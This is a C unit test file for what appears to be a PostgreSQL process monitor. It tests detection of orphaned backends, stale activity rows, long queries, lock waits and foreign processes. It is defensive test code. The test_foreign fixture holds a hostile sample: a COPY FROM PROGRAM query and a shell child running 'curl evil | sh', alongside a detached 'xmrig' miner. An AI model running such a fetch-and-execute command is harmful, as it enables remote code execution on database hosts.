/* SPDX-License-Identifier: MIT */
/* Every finding kind from literal records and a literal pg_stat_activity snapshot. */
#include <errno.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <math.h>
#include <string.h>
#include <cmocka.h>

#include "findings.h"
#include "join.h"
#include "rules.h"

#define BOOT 1700000000.0
#define NOW (BOOT + 10000.0)
/* every process started at pid seconds after boot */
#define REC(p, pp, st, cm, ti) { .pid = (p), .ppid = (pp), .state = (st), .comm = cm, .title = (char *) (ti), .start_ticks = 100ULL * (p) }
#define STARTED(p) (BOOT + (double) (p))

static const ProcRecord recs[] = {
        REC(100, 1, 'S', "postgres", "/usr/lib/postgresql/15/bin/postgres -D /srv/a"),
        REC(101, 100, 'S', "postgres", "postgres: checkpointer "),
        REC(102, 100, 'S', "postgres", "postgres: logger "),
        REC(110, 100, 'R', "postgres", "postgres: alice shop [local] SELECT"),
        REC(111, 100, 'R', "postgres", "postgres: parallel worker for PID 110 "),
        REC(112, 100, 'S', "postgres", "postgres: parallel worker for PID 199 "),
        REC(120, 100, 'S', "postgres", "postgres: bob shop 10.0.0.7(5555) idle in transaction"),
        REC(130, 100, 'S', "postgres", "postgres: carol shop [local] UPDATE waiting"),
        REC(140, 100, 'S', "postgres", "postgres: dave shop 10.0.0.8(6000) authentication"),
        REC(160, 100, 'S', "postgres", "postgres: erin shop [local] idle"),
        REC(170, 100, 'S', "postgres", "postgres: walsender repl 10.0.0.9(7000) streaming 0/1"),
        REC(300, 1, 'R', "postgres", "postgres: frank shop 10.0.0.9(4444) SELECT"),
};

static ActivityRow rows[] = {
        { .pid = 101, .backend_type = "checkpointer", .backend_start = STARTED(101), .xmin_age = -1 },
        { .pid = 110, .usename = "alice", .datname = "shop", .application_name = "FakeParent:1001", .client_port = -1,
          .backend_type = "client backend", .state = "active", .backend_start = STARTED(110),
          .query_start = NOW - 400, .xact_start = NOW - 400, .state_change = NOW - 400, .xmin_age = 42 },
        { .pid = 111, .usename = "alice", .datname = "shop", .backend_type = "parallel worker", .state = "active",
          .backend_start = STARTED(111), .query_start = NOW - 399, .leader_pid = 110, .xmin_age = -1 },
        { .pid = 112, .usename = "alice", .datname = "shop", .backend_type = "parallel worker", .state = "active",
          .backend_start = STARTED(112), .query_start = NOW - 300, .leader_pid = 199, .xmin_age = -1 },
        { .pid = 120, .usename = "bob", .datname = "shop", .client_addr = "10.0.0.7", .client_port = 5555,
          .backend_type = "client backend", .state = "idle in transaction", .backend_start = STARTED(120),
          .xact_start = NOW - 900, .state_change = NOW - 600, .xmin_age = 7 },
        { .pid = 130, .usename = "carol", .datname = "shop", .client_port = -1, .backend_type = "client backend",
          .state = "active", .backend_start = STARTED(130), .query_start = NOW - 50, .xact_start = NOW - 50,
          .wait_event_type = "Lock", .wait_event = "transactionid", .xmin_age = -1 },
        /* 160's row is an earlier session's: its pid was reused */
        { .pid = 160, .usename = "old", .datname = "shop", .backend_type = "client backend", .state = "idle",
          .backend_start = STARTED(160) - 3600, .xmin_age = -1 },
        { .pid = 170, .usename = "repl", .backend_type = "walsender", .state = "active",
          .backend_start = STARTED(170), .query_start = NOW - 9000, .xmin_age = -1 },
        /* a row with no process at all */
        { .pid = 500, .usename = "ghost", .datname = "shop", .backend_type = "client backend", .state = "active",
          .backend_start = NOW - 100, .query_start = NOW - 100, .xmin_age = -1 },
        /* pgtree's own connection */
        { .pid = 600, .usename = "pgtree", .datname = "postgres", .backend_type = "client backend", .state = "active",
          .backend_start = NOW - 1, .query_start = NOW, .xmin_age = -1 },
};

static void build(PgTree *t, ActivitySnapshot *snap) {
        assert_int_equal(tree_build(recs, sizeof recs / sizeof recs[0], t), 0);
        t->hz = 100;
        t->boot_time = BOOT;
        t->now = NOW;
        *snap = (ActivitySnapshot){ .rows = rows, .n = sizeof rows / sizeof rows[0], .taken_at = NOW, .own_pid = 600 };
        snprintf(t->clusters[0].name, sizeof t->clusters[0].name, "main");
        join_activity(t, 0, snap, NULL);
}

static const Finding *find(const Findings *f, FindingKind k, pid_t pid) {
        for (size_t i = 0; i < f->n; i++)
                if (f->items[i].kind == k && f->items[i].pid == pid)
                        return &f->items[i];
        return NULL;
}

static size_t count(const Findings *f, FindingKind k) {
        size_t n = 0;
        for (size_t i = 0; i < f->n; i++)
                n += f->items[i].kind == k;
        return n;
}

static void test_every_kind(void **state) {
        PgTree t;
        ActivitySnapshot snap;
        build(&t, &snap);
        pid_t gone[] = { 120 };
        Findings f = {};
        assert_int_equal(findings_detect(&t, gone, 1, &f), 0);

        /* orphan_backend: the orphan, and only it; nothing else is said about it */
        const Finding *x = find(&f, FINDING_ORPHAN_BACKEND, 300);
        assert_non_null(x);
        assert_int_equal(count(&f, FINDING_ORPHAN_BACKEND), 1);
        assert_null(find(&f, FINDING_LONG_QUERY, 300));

        /* orphan_parallel_worker */
        assert_non_null(find(&f, FINDING_ORPHAN_PARALLEL_WORKER, 112));
        assert_int_equal(count(&f, FINDING_ORPHAN_PARALLEL_WORKER), 1);

        /* stale_activity: the ghost row and the earlier session's row under a reused pid */
        assert_non_null(find(&f, FINDING_STALE_ACTIVITY, 500));
        x = find(&f, FINDING_STALE_ACTIVITY, 160);
        assert_non_null(x);
        assert_string_equal(x->user, "old");
        assert_int_equal(count(&f, FINDING_STALE_ACTIVITY), 2); /* not pgtree's own (600) */

        /* unlisted_process: 140 (stuck in authentication) and 160 (its row is another's); not the
         * logger (pg_stat_activity never lists it) nor the postmaster */
        x = find(&f, FINDING_UNLISTED_PROCESS, 140);
        assert_non_null(x);
        assert_true(x->since > 0);
        x = find(&f, FINDING_UNLISTED_PROCESS, 160);
        assert_non_null(x);
        assert_non_null(strstr(x->detail, "pid reused"));
        assert_int_equal(count(&f, FINDING_UNLISTED_PROCESS), 2);

        /* client_gone */
        x = find(&f, FINDING_CLIENT_GONE, 120);
        assert_non_null(x);
        assert_string_equal(x->client, "10.0.0.7:5555");

        /* long_query from query_start; walsenders are candidates too (rules exclude them) */
        x = find(&f, FINDING_LONG_QUERY, 110);
        assert_non_null(x);
        assert_true(x->since == NOW - 400);
        assert_string_equal(x->application_name, "FakeParent:1001");
        assert_string_equal(x->client, "local");
        assert_non_null(find(&f, FINDING_LONG_QUERY, 170));
        assert_string_equal(find(&f, FINDING_LONG_QUERY, 170)->backend_type, "walsender");

        /* idle_in_transaction from state_change, long_transaction from xact_start, with xmin age */
        x = find(&f, FINDING_IDLE_IN_TRANSACTION, 120);
        assert_non_null(x);
        assert_true(x->since == NOW - 600);
        assert_int_equal(x->xmin_age, 7);
        x = find(&f, FINDING_LONG_TRANSACTION, 120);
        assert_non_null(x);
        assert_true(x->since == NOW - 900);

        /* lock_wait */
        x = find(&f, FINDING_LOCK_WAIT, 130);
        assert_non_null(x);
        assert_non_null(strstr(x->detail, "transactionid"));
        assert_int_equal(count(&f, FINDING_LOCK_WAIT), 1);

        /* nothing about the postmaster or the checkpointer */
        for (size_t i = 0; i < f.n; i++)
                assert_true(f.items[i].pid != 100 && f.items[i].pid != 101);
        findings_free(&f);
        tree_free(&t);
}

/* Long runners below the lowest threshold of their kind's rules are no candidates; kinds no
 * rule covers are none either; orphan kinds and unknown starts are kept. */
static void test_filtered_by_threshold(void **state) {
        PgTree t;
        ActivitySnapshot snap;
        build(&t, &snap);
        pid_t gone[] = { 120 };
        uint64_t min_after[_FINDING_KIND_MAX];
        for (unsigned k = 0; k < _FINDING_KIND_MAX; k++)
                min_after[k] = 0;
        min_after[FINDING_LONG_QUERY] = 401 * 1000000ULL;  /* 110 started 400 s ago: not yet */
        min_after[FINDING_IDLE_IN_TRANSACTION] = 600 * 1000000ULL; /* 120: exactly now */
        min_after[FINDING_LONG_TRANSACTION] = UINT64_MAX;  /* no rule covers it */
        Findings f = {};
        assert_int_equal(findings_detect_filtered(&t, gone, 1, min_after, &f), 0);
        assert_null(find(&f, FINDING_LONG_QUERY, 110));
        assert_non_null(find(&f, FINDING_IDLE_IN_TRANSACTION, 120));
        assert_int_equal(count(&f, FINDING_LONG_TRANSACTION), 0);
        assert_non_null(find(&f, FINDING_LOCK_WAIT, 130));
        assert_non_null(find(&f, FINDING_ORPHAN_BACKEND, 300));
        assert_non_null(find(&f, FINDING_CLIENT_GONE, 120));
        findings_free(&f);
        min_after[FINDING_LONG_QUERY] = 400 * 1000000ULL;
        assert_int_equal(findings_detect_filtered(&t, gone, 1, min_after, &f), 0);
        assert_non_null(find(&f, FINDING_LONG_QUERY, 110));
        findings_free(&f);
        tree_free(&t);

        /* without pg_stat_activity the start is unknown: tracked from first sight */
        assert_int_equal(tree_build(recs, sizeof recs / sizeof recs[0], &t), 0);
        min_after[FINDING_LONG_QUERY] = 401 * 1000000ULL;
        assert_int_equal(findings_detect_filtered(&t, NULL, 0, min_after, &f), 0);
        assert_non_null(find(&f, FINDING_LONG_QUERY, 110));
        findings_free(&f);
        tree_free(&t);
}

/* Without pg_stat_activity the titles still tell states; the time they began is unknown, and
 * nothing can be stale or unlisted. */
static void test_without_activity(void **state) {
        PgTree t;
        assert_int_equal(tree_build(recs, sizeof recs / sizeof recs[0], &t), 0);
        Findings f = {};
        assert_int_equal(findings_detect(&t, NULL, 0, &f), 0);
        const Finding *x = find(&f, FINDING_LONG_QUERY, 110);
        assert_non_null(x);
        assert_true(x->since == 0);
        assert_non_null(find(&f, FINDING_IDLE_IN_TRANSACTION, 120));
        assert_non_null(find(&f, FINDING_LOCK_WAIT, 130));
        assert_int_equal(count(&f, FINDING_STALE_ACTIVITY), 0);
        assert_int_equal(count(&f, FINDING_UNLISTED_PROCESS), 0);
        assert_non_null(find(&f, FINDING_ORPHAN_BACKEND, 300));
        findings_free(&f);
        tree_free(&t);
}

static void test_names(void **state) {
        for (int k = 0; k < _FINDING_KIND_MAX; k++)
                assert_int_equal(finding_kind_from_string(finding_kind_to_string((FindingKind) k)), k);
        for (int a = 0; a < _ACTION_MAX; a++)
                assert_int_equal(action_from_string(action_to_string((Action) a)), a);
        assert_int_equal(finding_kind_from_string("orphan"), -EINVAL);
        assert_int_equal(action_from_string("kill"), -EINVAL);
        assert_int_equal(action_from_string(NULL), -EINVAL);
}

/* Children that pg_stat_activity does not list, by version: the archiver before 14, the stats
 * collector, the logger, background workers that connect to no database. None is unlisted. */
static const ProcRecord quiet_recs[] = {
        REC(100, 1, 'S', "postgres", "/opt/pg/bin/postgres -D /srv/a"),
        REC(101, 100, 'S', "postgres", "postgres: checkpointer   "),
        REC(102, 100, 'S', "postgres", "postgres: logger   "),
        REC(103, 100, 'S', "postgres", "postgres: archiver   last was 000000010000000000000003"),
        REC(104, 100, 'S', "postgres", "postgres: stats collector   "),
        REC(105, 100, 'S', "postgres", "postgres: autoprewarm master   "),
        REC(106, 100, 'S', "postgres", "postgres: io worker 0"),
};

static size_t unlisted_with_version(int server_version, pid_t *first) {
        PgTree t;
        assert_int_equal(tree_build(quiet_recs, sizeof quiet_recs / sizeof quiet_recs[0], &t), 0);
        t.hz = 100;
        t.boot_time = BOOT;
        t.now = NOW;
        ActivityRow only[] = { { .pid = 101, .backend_type = "checkpointer", .backend_start = STARTED(101), .xmin_age = -1 } };
        ActivitySnapshot snap = { .rows = only, .n = 1, .taken_at = NOW, .server_version = server_version };
        join_activity(&t, 0, &snap, NULL);
        Findings f = {};
        assert_int_equal(findings_detect(&t, NULL, 0, &f), 0);
        size_t n = count(&f, FINDING_UNLISTED_PROCESS);
        *first = n ? f.items[0].pid : 0;
        findings_free(&f);
        tree_free(&t);
        return n;
}

static void test_unlisted_by_version(void **state) {
        pid_t pid;
        /* 12 and 13: the archiver, the stats collector, the logger and autoprewarm are never listed */
        assert_int_equal(unlisted_with_version(120022, &pid), 1);
        assert_int_equal(pid, 106); /* io worker: 18's, listed there, missing here: an odd one */
        assert_int_equal(unlisted_with_version(130023, &pid), 1);
        /* 14+: the archiver is listed, so one missing is unlisted */
        assert_int_equal(unlisted_with_version(140000, &pid), 2);
        assert_int_equal(pid, 103);
        assert_true(backend_type_listed(BACKEND_CLIENT, 12));
        assert_true(backend_type_listed(BACKEND_IO_WORKER, 18));
        assert_false(backend_type_listed(BACKEND_ARCHIVER, 13));
        assert_true(backend_type_listed(BACKEND_ARCHIVER, 14));
        assert_false(backend_type_listed(BACKEND_ARCHIVER, 0));
        assert_false(backend_type_listed(BACKEND_STATS_COLLECTOR, 14));
        assert_false(backend_type_listed(BACKEND_LOGGER, 18));
        assert_false(backend_type_listed(BACKEND_BACKGROUND_WORKER, 18));
        assert_false(backend_type_listed(BACKEND_POSTMASTER, 18));
}

/* A dead postmaster's logger outlives it while a backend keeps its pipe open: it holds no shared
 * memory, blocks no restart, and is no orphan_backend. The backend is, and says why. */
static void test_orphan_logger(void **state) {
        static const ProcRecord left[] = {
                REC(200, 1, 'S', "postgres", "postgres: lab18: logger "),
                REC(201, 1, 'R', "postgres", "postgres: lab18: alice shop [local] SELECT"),
                REC(202, 1, 'S', "postgres", "postgres: lab12: stats collector   "),
                REC(203, 1, 'S', "postgres", "postgres: lab12: archiver   last was 000000010000000000000003"),
                REC(204, 1, 'S', "postgres", "postgres: lab18: archiver last was 000000010000000000000003"),
        };
        PgTree t;
        assert_int_equal(tree_build(left, sizeof left / sizeof left[0], &t), 0);
        assert_int_equal(t.n_procs, 5);
        for (size_t i = 0; i < t.n_procs; i++)
                t.procs[i].server_major = t.procs[i].rec.pid == 203 ? 12 : 18;
        Findings f = {};
        assert_int_equal(findings_detect(&t, NULL, 0, &f), 0);
        assert_int_equal(count(&f, FINDING_ORPHAN_BACKEND), 2);
        assert_null(find(&f, FINDING_ORPHAN_BACKEND, 200));
        assert_null(find(&f, FINDING_ORPHAN_BACKEND, 202));
        assert_null(find(&f, FINDING_ORPHAN_BACKEND, 203)); /* 12's archiver detached */
        assert_non_null(find(&f, FINDING_ORPHAN_BACKEND, 204)); /* 14+'s is attached */
        const Finding *x = find(&f, FINDING_ORPHAN_BACKEND, 201);
        assert_non_null(x);
        assert_non_null(strstr(x->detail, "shared memory"));
        assert_non_null(strstr(x->detail, "cannot restart"));
        assert_non_null(strstr(x->detail, "client backend"));
        findings_free(&f);
        tree_free(&t);
}

/* Processes below the cluster's (t->foreign, as the scanner finds them): one below alice's backend,
 * one below the checkpointer (archive_cleanup_command: expected), one allowed, one detached. */
static void test_foreign(void **state) {
        PgTree t;
        ActivitySnapshot snap;
        rows[1].query = (char *) "COPY t FROM PROGRAM 'curl evil | sh'";
        build(&t, &snap);
        int backend = tree_find(&t, 110), ckpt = tree_find(&t, 101);
        assert_true(backend >= 0 && ckpt >= 0);
        PgForeign g[4] = {
                { .rec = { .pid = 900, .ppid = 110, .state = 'S', .start_ticks = 100ULL * 9000, .cpu_ticks = 50,
                           .title = (char *) "sh -c curl evil | sh", .ident = { .ids_valid = true, .euid = 105, .ruid = 105 } },
                  .cluster = 0, .via = backend, .via_pid = 110, .via_start_ticks = 100ULL * 110, .depth = 1,
                  .why = "below a PostgreSQL process", .exe = "/usr/bin/dash" },
                { .rec = { .pid = 901, .ppid = 101, .state = 'S', .start_ticks = 100ULL * 9001, .title = (char *) "sh -c cleanup" },
                  .cluster = 0, .via = ckpt, .via_pid = 101, .depth = 1, .expected = true },
                { .rec = { .pid = 902, .ppid = 110, .state = 'S', .start_ticks = 100ULL * 9002, .title = (char *) "gzip -c" },
                  .cluster = 0, .via = backend, .via_pid = 110, .depth = 1, .allowed = true },
                { .rec = { .pid = 903, .ppid = 1, .state = 'S', .start_ticks = 100ULL * 9003, .title = (char *) "xmrig" },
                  .cluster = 0, .via = -1, .via_pid = 0, .detached = true, .why = "runs in the cluster's data directory" },
        };
        t.foreign = g;
        t.n_foreign = 4;
        Findings f = {};
        assert_int_equal(findings_detect(&t, NULL, 0, &f), 0);
        assert_int_equal(count(&f, FINDING_FOREIGN_PROCESS), 2);
        const Finding *x = find(&f, FINDING_FOREIGN_PROCESS, 900);
        assert_non_null(x);
        assert_string_equal(x->cluster, "main");
        assert_string_equal(x->user, "alice");
        assert_string_equal(x->database, "shop");
        assert_string_equal(x->application_name, "FakeParent:1001");
        assert_string_equal(x->client, "local");
        assert_string_equal(x->query, "COPY t FROM PROGRAM 'curl evil | sh'");
        assert_string_equal(x->command, "sh -c curl evil | sh");
        assert_string_equal(x->exe, "/usr/bin/dash");
        assert_int_equal(x->uid, 105);
        assert_int_equal(x->via_pid, 110);
        assert_int_equal(x->ppid, 110);
        assert_false(x->detached);
        assert_true(x->since > BOOT + 8999 && x->since < BOOT + 9001); /* its start: age counts from it */
        assert_non_null(strstr(x->detail, "client backend 110"));
        x = find(&f, FINDING_FOREIGN_PROCESS, 903);
        assert_non_null(x);
        assert_true(x->detached);
        assert_string_equal(x->user, "");
        assert_null(find(&f, FINDING_FOREIGN_PROCESS, 901)); /* expected */
        assert_null(find(&f, FINDING_FOREIGN_PROCESS, 902)); /* allowed */
        findings_free(&f);
        t.foreign = NULL;
        t.n_foreign = 0;
        rows[1].query = NULL;
        tree_free(&t);
}


static Config *parse(const char *text) {
        Config *c = NULL;
        ConfigErrors errs = {};
        int r = config_parse_string(text, "test.ini", &c, &errs);
        config_errors_print(&errs, stderr);
        config_errors_clear(&errs);
        assert_int_equal(r, 0);
        return c;
}

/* a moment as ms after NOW (doubles: cmocka's float comparison has 24 bits) */
static long long ms_after_now(double at) {
        return llround((at - NOW) * 1000);
}

/* When the next cycle should run for a long runner to reach a rule's threshold: the earliest
 * since + after still ahead, of a rule that then matches the session (filters, backend_type),
 * thresholds already behind left out (decided this cycle), unknown starts left out. */
static void test_next_crossing(void **state) {
        PgTree t;
        ActivitySnapshot snap;
        build(&t, &snap);
        /* 110's query started 400 s ago: its rule of 410 s is reached in 10 s */
        Config *c = parse("[rule lq]\nkind = long_query\nafter = 410s\n");
        assert_int_equal(ms_after_now(findings_next_crossing(&t, c, 0)), 10 * 1000);
        config_free(c);
        /* the earliest of several rules and kinds: 120's transaction (900 s) reaches 903 s in 3 s;
         * a threshold behind (lq-old) and rules that will not match then are no moment: 120 is bob's,
         * not nobody's; 170, active for 9000 s, is a walsender (long-runner rules mean client
         * backends unless they name backend_type) */
        c = parse("[rule lq]\nkind = long_query\nafter = 410s\n"
                  "[rule lq-old]\nkind = long_query\nafter = 100s\n"
                  "[rule lt]\nkind = long_transaction\nafter = 903s\n"
                  "[rule it]\nkind = idle_in_transaction\nafter = 601s\nuser = nobody\n"
                  "[rule ws]\nkind = long_query\nafter = 9001s\n");
        assert_int_equal(ms_after_now(findings_next_crossing(&t, c, 0)), 3 * 1000);
        config_free(c);
        /* the same walsender rule naming its backend_type: 1 s; lock_wait from its query's start
         * (130: 50 s), a rule acting on the blocker included */
        c = parse("[rule ws]\nkind = long_query\nafter = 9001s\nbackend_type = walsender\n");
        assert_int_equal(ms_after_now(findings_next_crossing(&t, c, 0)), 1 * 1000);
        config_free(c);
        c = parse("[rule lw]\nkind = lock_wait\nafter = 52s\n");
        assert_int_equal(ms_after_now(findings_next_crossing(&t, c, 0)), 2 * 1000);
        config_free(c);
        /* escalation: a finding open already by one rule (after 100 s) escalates at 420 s */
        c = parse("[rule lq-old]\nkind = long_query\nafter = 100s\n"
                  "[rule lq-kill]\nkind = long_query\nafter = 420s\naction = terminate\n");
        assert_int_equal(ms_after_now(findings_next_crossing(&t, c, 0)), 20 * 1000);
        /* with a window: the last moment within it of the first (110 at 20 s, 120's transaction at
         * 3 s, 130's lock wait at 2 s); none within it: the first */
        config_free(c);
        c = parse("[rule lq]\nkind = long_query\nafter = 420s\n[rule lt]\nkind = long_transaction\nafter = 903s\n"
                  "[rule lw]\nkind = lock_wait\nafter = 52s\n");
        assert_int_equal(ms_after_now(findings_next_crossing(&t, c, 0)), 2000);
        assert_int_equal(ms_after_now(findings_next_crossing(&t, c, 0.5)), 2000);
        assert_int_equal(ms_after_now(findings_next_crossing(&t, c, 1.0)), 3000);
        assert_int_equal(ms_after_now(findings_next_crossing(&t, c, 17.0)), 3000);
        assert_int_equal(ms_after_now(findings_next_crossing(&t, c, 18.0)), 20000);
        /* thresholds all behind: no moment */
        config_free(c);
        c = parse("[rule lq]\nkind = long_query\nafter = 1s\n[rule lt]\nkind = long_transaction\nafter = 1s\n");
        assert_true(findings_next_crossing(&t, c, 0) == 0);
        config_free(c);
        tree_free(&t);

        /* without pg_stat_activity nothing has a known start */
        assert_int_equal(tree_build(recs, sizeof recs / sizeof recs[0], &t), 0);
        t.now = NOW;
        c = parse("[rule lq]\nkind = long_query\nafter = 410s\n");
        assert_true(findings_next_crossing(&t, c, 0) == 0);
        config_free(c);
        tree_free(&t);
}

int main(void) {
        const struct CMUnitTest tests[] = {
                cmocka_unit_test(test_every_kind),
                cmocka_unit_test(test_without_activity),
                cmocka_unit_test(test_names),
                cmocka_unit_test(test_filtered_by_threshold),
                cmocka_unit_test(test_next_crossing),
                cmocka_unit_test(test_unlisted_by_version),
                cmocka_unit_test(test_orphan_logger),
                cmocka_unit_test(test_foreign),
        };
        return cmocka_run_group_tests(tests, NULL, NULL);
}
